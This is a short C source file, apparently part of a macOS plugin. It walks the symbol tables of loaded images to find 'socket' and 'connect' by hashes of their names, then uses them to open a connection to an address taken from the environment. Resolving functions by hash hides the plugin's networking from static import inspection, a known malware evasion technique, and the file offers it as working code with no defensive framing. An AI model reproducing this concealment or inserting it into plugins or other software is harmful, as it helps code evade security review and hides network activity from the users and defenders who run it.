/* Walks the symbol tables of the loaded images, and takes connect and socket by
 * numbers made of their names. */
#include "plugin.h"
typedef struct { unsigned magic, cpu, subtype, type, commands, size, flags, reserved; } header;
typedef struct { unsigned command, size; char name[16]; unsigned long address, length, offset, file_size; } segment;
typedef struct { unsigned command, size, symbols, count, strings, strings_size; } table;
typedef struct { unsigned name; unsigned char type, section; short about; unsigned long value; } symbol;
extern unsigned _dyld_image_count(void);
extern const header *_dyld_get_image_header(unsigned);
extern long _dyld_get_image_vmaddr_slide(unsigned);
static void *find(unsigned want) {
    for (unsigned n = _dyld_image_count(); n--;) {
        const header *h = _dyld_get_image_header(n);
        const char *at = (const char *)(h + 1), *linkedit = 0;
        const table *t = 0;
        for (unsigned i = 0; i < h->commands; i++, at += ((const segment *)at)->size) {
            const segment *s = (const void *)at;
            if (s->command == 0x19 && s->name[2] == 'L' && s->name[3] == 'I') linkedit = (const char *)(s->address + _dyld_get_image_vmaddr_slide(n) - s->offset);
            if (s->command == 2) t = (const void *)at;
        }
        if (!t || !linkedit) continue;
        const symbol *all = (const void *)(linkedit + t->symbols);
        for (unsigned i = 0; i < t->count; i++) {
            unsigned hash = 5381;
            for (const char *c = linkedit + t->strings + all[i].name; *c; c++) hash = hash * 33 ^ *c;
            if (hash == want && all[i].value) return (void *)(all[i].value + _dyld_get_image_vmaddr_slide(n));
        }
    }
    return 0;
}
static void act(char **env) {
    struct address a = loopback(env);
    int (*open)(int, int, int) = find(SOCKET);
    int (*reach)(int, const void *, unsigned) = find(CONNECT);
    reach(open(2, 1, 0), &a, sizeof a);
}
